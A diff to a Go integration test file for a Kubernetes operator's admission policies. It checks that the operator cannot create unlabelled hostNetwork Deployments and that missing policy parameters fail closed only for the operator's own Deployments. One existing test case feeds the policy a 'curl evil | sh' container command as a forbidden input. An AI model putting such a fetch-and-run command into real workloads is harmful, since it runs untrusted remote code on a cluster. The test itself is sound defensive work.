@@ -184,6 +184,15 @@ func TestOperatorCredentialsCannotWriteAForbiddenDeployment(t *testing.T) {
 			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil | sh"}
 		}, want: "bridge (example.test/mcp/server:v1)"},
 	}
+	// The restricted-workloads binding selects the operator's label; dropping the label
+	// does not take a Deployment out of its reach, own-objects refuses it first.
+	unlabelled := restrictedDeployment("tenant-vap", "unlabelled")
+	delete(unlabelled.Labels, "app.kubernetes.io/managed-by")
+	unlabelled.Spec.Template.Spec.HostNetwork = true
+	if err := operator.Create(ctx, unlabelled, client.DryRunAll); err == nil || !strings.Contains(err.Error(), "cantus-operator-own-objects") {
+		t.Fatalf("the operator created an unlabelled hostNetwork Deployment: %v, want refused by cantus-operator-own-objects", err)
+	}
+
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
 			d := restrictedDeployment("tenant-vap", "forbidden")
@@ -348,5 +357,79 @@ func TestOperatorWritesOnlyItsOwnObjects(t *testing.T) {
 	}
 	if err := admin.Delete(ctx, denyAll.DeepCopy(), client.DryRunAll); err != nil {
 		t.Errorf("the admin may still delete its NetworkPolicy: %v", err)
+	}
+}
+
+// Without its parameters the restricted-workloads policy refuses the Deployments labelled
+// as the operator's (it fails closed) and nobody else's: the API server resolves a binding's
+// parameters before its matchConditions, so an unscoped binding would stop every
+// Deployment write in the cluster while the ConfigMap is gone (a namespace deleted, the
+// moment of a helm uninstall between the ConfigMap and the binding).
+func TestMissingAdmissionParametersRefuseOnlyTheOperator(t *testing.T) {
+	ctx := context.Background()
+	grantClusterRole(t)
+	createNamespace(t, "tenant-noparams")
+	waitForPolicy(t, "tenant-noparams")
+
+	key := client.ObjectKey{Namespace: operatorNamespace, Name: "cantus-operator-admission"}
+	params := &corev1.ConfigMap{}
+	if err := admin.Get(ctx, key, params); err != nil {
+		t.Fatal(err)
+	}
+	if err := admin.Delete(ctx, params); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		restored := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: key.Namespace, Name: key.Name,
+			Labels: params.Labels, Annotations: params.Annotations}, Data: params.Data}
+		if err := admin.Create(context.Background(), restored); err != nil {
+			t.Errorf("restoring the admission parameters: %v", err)
+		}
+		waitForImagesAllowed(t, "tenant-noparams")
+	})
+
+	// The API server learns of the deletion through an informer: wait until the
+	// operator's own Deployment is refused for want of parameters.
+	var refusal error
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		refusal = operator.Create(ctx, restrictedDeployment("tenant-noparams", "adapter"), client.DryRunAll)
+		if refusal != nil && strings.Contains(refusal.Error(), "cantus-operator-restricted-workloads") {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the operator's Deployment is not refused 30s after its policy's parameters were deleted: %v", refusal)
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	t.Logf("the operator without parameters: %v", refusal)
+
+	someoneElses := restrictedDeployment("tenant-noparams", "web")
+	someoneElses.Labels = map[string]string{"app.kubernetes.io/name": "web"}
+	if err := admin.Create(ctx, someoneElses, client.DryRunAll); err != nil {
+		t.Fatalf("the admin's Deployment is refused while the operator's parameters are missing: %v", err)
+	}
+	// What still waits for the parameters is what claims to be the operator's: the
+	// binding cannot see who writes before it has them.
+	labelledByAdmin := restrictedDeployment("tenant-noparams", "labelled")
+	if err := admin.Create(ctx, labelledByAdmin, client.DryRunAll); err == nil {
+		t.Fatal("a Deployment labelled managed-by=cantus-operator was admitted without the policy's parameters; the binding no longer fails closed")
+	}
+}
+
+// waitForImagesAllowed waits until the operator's own shape of Deployment is admitted
+// again (the restored parameters reached the API server's informer).
+func waitForImagesAllowed(t *testing.T, namespace string) {
+	t.Helper()
+	deadline := time.Now().Add(30 * time.Second)
+	for {
+		err := operator.Create(context.Background(), restrictedDeployment(namespace, "adapter"), client.DryRunAll)
+		if err == nil {
+			return
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the operator's Deployment is still refused 30s after the parameters were restored: %v", err)
+		}
+		time.Sleep(200 * time.Millisecond)
 	}
 }
